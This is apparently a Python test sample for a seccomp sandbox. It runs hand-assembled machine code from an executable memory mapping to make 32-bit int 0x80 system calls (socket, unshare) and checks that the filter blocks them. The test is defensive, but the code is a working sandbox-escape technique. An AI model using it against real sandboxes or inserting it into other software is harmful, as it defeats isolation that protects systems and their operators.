# ruff: noqa
# Attack: go around the seccomp filter with the 32-bit system call table (int 0x80), whose
#   numbers differ from x86-64's: socket(AF_INET) and unshare(CLONE_NEWUSER) from a few bytes
#   of machine code in an executable mapping. (x86-64 only; elsewhere it just fails.)
# Must hold: the calls fail or the process is killed (a filter must refuse foreign
#   architectures); the host listener sees nothing; the sample does not pass.
import ctypes
import mmap
import platform
import socket

if platform.machine() != "x86_64":
    raise AssertionError("attack skipped: not x86-64")


def int80(nr, a, b, c):
    code = (
        b"\x53"
        + b"\xb8"
        + nr.to_bytes(4, "little")
        + b"\xbb"
        + a.to_bytes(4, "little")
        + b"\xb9"
        + b.to_bytes(4, "little")
        + b"\xba"
        + c.to_bytes(4, "little")
        + b"\xcd\x80"
        + b"\x5b"
        + b"\xc3"
    )
    buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    buf.write(code)
    addr = ctypes.addressof(ctypes.c_char.from_buffer(buf))
    return ctypes.c_int(ctypes.CFUNCTYPE(ctypes.c_long)(addr)()).value


fd = int80(359, socket.AF_INET, socket.SOCK_STREAM, 0)  # i386 socket()
print("int80 socket:", fd)
if fd >= 0:
    print("LEAK: AF_INET socket through int 0x80")
    s = socket.socket(fileno=fd)
    s.settimeout(1)
    try:
        s.connect(("127.0.0.1", int("__TCP_PORT__")))
        print("LEAK: connected")
    except OSError as e:
        print("connect", e)
rc = int80(310, 0x10000000, 0, 0)  # i386 unshare(CLONE_NEWUSER)
print("int80 unshare:", rc)
if rc == 0:
    print("LEAK: unshare through int 0x80")
raise AssertionError("attack finished")
